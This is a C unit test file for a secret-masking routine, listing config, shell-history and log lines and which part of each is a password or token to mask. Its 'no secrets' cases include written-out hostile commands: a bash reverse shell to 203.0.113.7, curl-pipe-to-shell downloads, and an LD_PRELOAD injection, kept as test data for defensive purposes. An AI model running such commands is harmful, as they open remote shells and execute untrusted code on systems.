/* secret_value_test.c - what is masked, and what has to stay readable. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <unistd.h>
#include <cmocka.h>

#include "secrets.h"

struct line {
	const char *path, *text;
	const char *secret; /* in text; NULL: nothing is masked */
};

#define CONF "/etc/app/app.conf"

static const struct line lines[] = {
	/* by name */
	{ CONF, "password=hunter2", "hunter2" },
	{ CONF, "  \"password\": \"hun ter2\",", "hun ter2" },
	{ CONF, "psk = correcthorse", "correcthorse" },
	{ CONF, "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG",
	  "wJalrXUtnFEMI/K7MDENG" },
	{ CONF, "define('DB_PASSWORD', 'S3cret!x');", "S3cret!x" },
	{ CONF, "$db_password = 'letmein';", "letmein" },
	{ CONF, "<password>letmein</password>", "letmein" },
	{ CONF, "'password' => 'letmein',", "letmein" },
	{ CONF, "api_token: Zx81kkQ09aa", "Zx81kkQ09aa" },
	{ "/root/.bash_history", "mysqldump --password=letmein db", "letmein" },
	{ "/root/.bash_history",
	  "curl -H 'Authorization: Bearer abcDEF123456' http://x",
	  "abcDEF123456" },
	{ "/root/.bash_history", "git clone https://u:tops3cret@h/r.git",
	  "tops3cret" },
	{ "/root/.docker/config.json", "\"auth\": \"dXNlcjpwYXNzMTIz\"",
	  "dXNlcjpwYXNzMTIz" },
	{ "/opt/a.py", "login(password='letmein')", "letmein" },
	{ "/etc/profile.d/a.sh", "export API_TOKEN=Zx81kkQ09aa",
	  "Zx81kkQ09aa" },
	{ "/root/.bash_history", "sshpass -p letmein ssh u@h", "letmein" },
	{ "/root/.bash_history", "curl -s -u hana:letmein http://x",
	  "letmein" },
	{ "/root/.bash_history", "curl -u hana http://x:80/a", NULL },
	{ "/root/.bash_history", "mkdir -p sshpass; ssh -p 2222 h", NULL },
	{ "/root/.bash_history", "mysql -h db -u root -pletmein app",
	  "letmein" },
	{ "/root/.bash_history", "mysql -u root -p app", NULL },
	{ "/root/.bash_history", "openssl enc -aes-256-cbc -k letmein -in a",
	  "letmein" },
	{ "/root/.bash_history", "htpasswd -b /etc/x hana letmein", "letmein" },
	{ "/root/.bash_history", "/usr/bin/sshpass -pletmein ssh h",
	  "letmein" },
	{ "/root/.bash_history", "curl -uhana:letmein http://x", "letmein" },
	{ "/root/.bash_history", "wget --http-password letmein http://x",
	  "letmein" },
	{ "/root/.bash_history", "docker login -u hana -p letmein r.example",
	  "letmein" },
	{ "/root/.bash_history", "docker run -p 8080:80 nginx", NULL },
	{ "/root/.bash_history", "smbclient //h/s -U hana%letmein", "letmein" },
	{ "/root/.bash_history", "ldapsearch -D cn=a -w letmein -b dc=x",
	  "letmein" },
	{ "/root/.bash_history", "echo hana:letmein | chpasswd", "letmein" },
	{ "/root/.bash_history", "echo 'letmein' | sudo -S id", "letmein" },
	{ "/root/.bash_history", "echo hello | sudo tee /etc/motd", NULL },
	{ "/root/.bash_history",
	  "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG",
	  "wJalrXUtnFEMI/K7MDENG" },
	{ "/etc/wpa_supplicant/wpa_supplicant.conf", "\twep_key0=4142434445",
	  "4142434445" },
	{ "/etc/network/interfaces", "    wpa-psk letmein1", "letmein1" },
	{ "/etc/network/interfaces", "\twireless-key s:abcde", "s:abcde" },
	/* by keyword and place */
	{ "/etc/snmp/snmpd.conf", "rocommunity s3cr3tcomm 10.0.0.0/8",
	  "s3cr3tcomm" },
	{ "/etc/redis/redis.conf", "requirepass foobared", "foobared" },
	{ "/root/.netrc", "machine h login u password letmein", "letmein" },
	{ "/root/.pgpass", "db.example:5432:app:hana:letmein", "letmein" },
	{ "/etc/ppp/chap-secrets", "hana * letmein *", "letmein" },
	/* by shape, in a log too */
	{ "/var/log/app.log", "x ghp_0123456789abcdefghijklmnopqrstuvwxyz y",
	  "0123456789abcdefghijklmnopqrstuvwxyz" },
	{ CONF, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXg",
	  "c2lnbmF0dXJlLXg" },
	{ "/etc/passwd.bak",
	  "root:$6$saltsalt$abcdefghijklmnopqrstuvwxyz012345:0:0::/root:/bin/"
	  "sh",
	  "abcdefghijklmnopqrstuvwxyz012345" },
	{ CONF, "hana:$2b$12$abcdefghijklmnopqrstuv0123456789012345678901234",
	  "abcdefghijklmnopqrstuv0123456789012345678901234" },
	/* no secrets */
	{ "/opt/a.py", "login(user=user, password=self.password)", NULL },
	{ "/opt/a.py", "self.password = password", NULL },
	{ "/opt/a.py", "token: AccessToken = tokenOf(line)", NULL },
	{ "/etc/nsswitch.conf", "passwd: files systemd", NULL },
	{ CONF, "passwd: files", NULL },
	{ "/etc/sudoers.d/x", "hana ALL=(ALL) NOPASSWD: ALL", NULL },
	{ "/etc/pam.d/x", "password [success=1 default=ignore] pam_unix.so",
	  NULL },
	{ "/etc/pam.d/x", "auth required pam_exec.so expose_authtok /tmp/x",
	  NULL },
	{ "/etc/ssh/sshd_config", "PasswordAuthentication yes", NULL },
	{ "/etc/ssh/sshd_config", "AuthorizedKeysFile: .ssh/keys", NULL },
	{ CONF, "ExecStart=/bin/sh -c 'curl http://x/i.sh | sh'", NULL },
	{ CONF, "Environment=LD_PRELOAD=/tmp/libx.so", NULL },
	{ CONF, "ssl_key = /etc/ssl/private/key.pem", NULL },
	{ CONF, "PASSWORD=$(cat /run/secret)", NULL },
	{ CONF, "password = ${DB_PASSWORD}", NULL },
	{ CONF, "ENV{ID_KEY}==\"letmein12\"", NULL },
	{ CONF, "Pin: release a=stable", NULL },
	{ CONF, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIxQaJ9kVRnwqcZ9Kb h",
	  NULL },
	{ "/root/.bash_history", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
	  NULL },
	{ "/root/.bash_history", "curl -fsSL http://203.0.113.7/i.sh | bash",
	  NULL },
	{ "/var/log/auth.log",
	  "sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
	  NULL },
	{ "/var/log/auth.log",
	  "sudo: hana : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/sh",
	  NULL },
};

static void one(const struct line *l)
{
	size_t n = strlen(l->text), at;
	char text[256];
	unsigned count;

	memcpy(text, l->text, n + 1);
	if (!l->secret) {
		if (secret_values(text, n, str_of(l->path), &count) != 0)
			fail_msg("%s: became `%s'", l->text, text);
		assert_string_equal(text, l->text);
		return;
	}
	at = str_find(str_of(l->text), str_of(l->secret));
	if (secret_values(text, n, str_of(l->path), &count) !=
	    strlen(l->secret))
		fail_msg("%s: became `%s'", l->text, text);
	assert_int_equal(count, 1);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(text[i], i >= at && i < at + strlen(l->secret)
						  ? '*'
						  : l->text[i]);
}

static void test_lines(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++)
		one(&lines[i]);
}

/* In the middle of a file, at its end, cut anywhere: nothing but letters. */
static void test_cut(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++)
		for (size_t n = 0; n <= strlen(lines[i].text); n++) {
			char *p = malloc(n + 1);
			unsigned count;

			assert_non_null(p);
			memcpy(p, lines[i].text, n);
			(void)secret_values(p, n, str_of(lines[i].path),
					    &count);
			for (size_t k = 0; k < n; k++)
				assert_true(p[k] == lines[i].text[k] ||
					    p[k] == '*');
			free(p);
		}
}

/* One line without an end, of nothing but signs: no square of its length. */
static void test_long_line(void **state)
{
	static const char *const unit[] = { "=a", "','", ":\"",
					    "token=", "://:" };
	const size_t n = 1 << 20;
	char *p = malloc(n);
	unsigned count;

	(void)state;
	assert_non_null(p);
	alarm(30); /* it took minutes */
	for (size_t u = 0; u < sizeof(unit) / sizeof(*unit); u++) {
		for (size_t i = 0; i < n; i++)
			p[i] = unit[u][i % strlen(unit[u])];
		(void)secret_values(p, n, STR(CONF), &count);
	}
	alarm(0);
	free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lines),
		cmocka_unit_test(test_cut),
		cmocka_unit_test(test_long_line),
	};

	return cmocka_run_group_tests_name("collect/secret_value", tests, NULL,
					   NULL);
}
